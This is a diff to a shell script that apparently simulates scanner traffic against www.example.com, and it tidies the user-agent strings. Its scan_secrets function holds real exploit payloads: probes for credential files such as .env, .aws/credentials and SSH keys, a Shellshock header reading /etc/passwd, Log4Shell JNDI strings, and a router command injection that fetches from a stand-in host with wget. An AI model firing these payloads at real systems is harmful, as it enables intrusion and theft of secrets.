@@ -12,10 +12,11 @@ readonly site=www.example.com
 readonly export_count=40
 readonly guess_count=60
 
+readonly webkit='AppleWebKit/605.1.15 (KHTML, like Gecko)'
 readonly agents=(
   'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0'
-  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36'
-  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1'
+  "Mozilla/5.0 (X11; Linux x86_64) $webkit Chrome/130.0.0.0 Safari/537.36"
+  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) $webkit Version/17.5 Safari/604.1"
   'Mozilla/5.0 (compatible; ExampleBot/2.1; +https://search.example/bot.html)'
 )
 
@@ -231,6 +232,7 @@ scan_traversal() {
 }
 
 scan_secrets() {
+  # shellcheck disable=SC2016
   local path jndi='${jndi:ldap://203.0.113.43:1389/a}'
   for path in /.env /.env.bak /.git/config /.git/HEAD /.aws/credentials /config.php.bak /id_rsa \
     /.ssh/id_ed25519 /wp-config.php~ /dump.sql; do
@@ -243,6 +245,7 @@ scan_secrets() {
   get 203.0.113.43 'Wget/1.21.3' /cgi-bin/bash -H 'Referer: () { :; }; /bin/cat /etc/passwd'
   get 203.0.113.43 "$jndi" / -e "$jndi"
   get 203.0.113.43 'Go-http-client/1.1' "/?x=%24%7Bjndi%3Aldap%3A//203.0.113.43/b%7D"
+  # shellcheck disable=SC2016
   get 203.0.113.43 'python-urllib3/2.2.2' '/cgi-bin/luci/;stok=/locale?form=country' \
     -d 'operation=write&country=$(id>`wget http://203.0.113.43/x`)'
 }
